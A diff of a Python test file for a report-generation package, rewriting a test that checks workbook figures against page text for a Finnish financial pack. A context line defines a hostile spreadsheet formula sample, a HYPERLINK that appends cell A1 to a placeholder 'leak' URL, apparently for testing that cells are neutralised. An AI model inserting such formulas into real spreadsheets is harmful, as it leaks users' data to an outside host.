@@ -16,8 +16,8 @@ from i18n import t
 from reports.cells import neutralise, write_cell
 from reports.pdf import pack_pdf
 from reports.quarterly import quarterly_pack
-from reports.text import euros, format_value, headline_label, headline_rows
-from reports.workbook import pack_workbook
+from reports.text import format_value, headline_label, headline_rows
+from reports.workbook import cell_value, pack_workbook
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikkaa")'
 
@@ -63,18 +63,20 @@ def test_workbook_opens_and_its_figures_equal_the_pages(pack: dict):
     content = pack_workbook(pack)
     workbook = load_workbook(BytesIO(content))
     summary = workbook[t("pack.sheet.summary")]
-    assert summary["B3"].value == "2019Q4"
-    rows = {summary.cell(r, 1).value: r for r in range(10, 10 + len(pack["headline"]))}
+    items = {summary.cell(r, 1).value: summary.cell(r, 2).value for r in range(4, summary.max_row + 1)}
+    assert items[t("pack.quarter")] == "2019Q4"
+    figures = workbook[t("pack.sheet.figures")]
+    rows = {figures.cell(r, 1).value: r for r in range(2, 2 + len(pack["headline"]))}
     for row in pack["headline"]:
         found = rows[headline_label(row, "fi")]
-        for column, field in enumerate(("quarter", "year_to_date", "previous_quarter", "change"), start=2):
-            expected = euros(row[field]) if row["unit"] == "cents" else row[field]
-            assert summary.cell(found, column).value == expected, (row["key"], field)
+        for column, field in enumerate(("quarter", "year_to_date", "previous_quarter", "change"), start=3):
+            expected = cell_value(row[field], "pp" if field == "change" and row["unit"] == "pct" else row["unit"])
+            assert figures.cell(found, column).value == expected, (row["key"], field)
     # the page shows the same figures as text through the same pack: 10 250 000 € kuntaosuus 2019
     page_rows = {cells[0]: cells for cells in headline_rows(pack, "fi")}
     assert page_rows[t("pack.figure.kuntaosuus")][2] == format_value(1025000000, "cents", "fi")
-    assert summary.cell(rows[t("pack.figure.kuntaosuus")], 3).value == 10250000.0
-    assert summary.cell(rows[t("pack.figure.kuntaosuus")], 3).number_format.endswith('"€"')
+    assert figures.cell(rows[t("pack.figure.kuntaosuus")], 4).value == 10250000.0
+    assert figures.cell(rows[t("pack.figure.kuntaosuus")], 4).number_format.endswith('"€"')
 
 
 def test_workbook_has_native_excel_charts(pack: dict):
